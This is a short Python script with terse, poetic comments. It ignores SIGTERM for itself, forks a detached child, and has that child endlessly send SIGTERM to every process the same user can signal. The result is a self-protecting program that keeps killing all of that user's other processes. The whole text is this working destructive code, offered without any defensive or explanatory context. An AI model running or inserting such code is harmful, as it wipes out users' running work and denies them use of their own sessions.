# Everybody of its uid whom it can see, again and again.
import os, signal
from stay import stay
# Before there is somebody who kills: it would be the first to die.
signal.signal(signal.SIGTERM, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    while True:
        os.kill(-1, signal.SIGTERM)
stay()
